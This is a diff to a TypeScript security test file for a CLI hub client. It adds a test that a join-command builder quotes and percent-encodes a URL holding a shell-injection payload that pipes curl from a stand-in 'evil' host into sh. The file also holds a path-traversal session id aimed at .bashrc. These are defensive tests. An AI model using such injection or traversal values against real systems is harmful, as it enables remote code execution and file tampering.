@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { defaultFile } from '../../src/cli/export-record.ts';
 import { hubApi } from '../../src/cli/hub-api.ts';
+import { joinCommand } from '../../src/cli/join-command.ts';
 
 describe('a hub that is not to be trusted', () => {
   const evil = 'checkout-1125/../../../.bashrc';
@@ -10,6 +11,13 @@ describe('a hub that is not to be trusted', () => {
     const record = { session: evil, events: [], head: { seq: 0, hash: '' } };
     expect(() => defaultFile(cli, record, 'md')).toThrow(expect.objectContaining({ kind: 'bad-session-id' }));
     expect(defaultFile(cli, { ...record, session: 'checkout-1125' }, 'md')).toMatch(/^\/home\/sato\/work\//);
+  });
+
+  it('SEC-75 cannot add a command to the line that is pasted to join', () => {
+    expect(joinCommand('https://hub.example/s/a#b~c')).toBe("oncall join 'https://hub.example/s/a#b~c'");
+    expect(joinCommand("https://x/'; curl evil|sh '\n")).toBe(
+      "oncall join 'https://x/%27;%20curl%20evil|sh%20%27%0A'",
+    );
   });
 
   it('SEC-75 lists no session by what is no id', async () => {
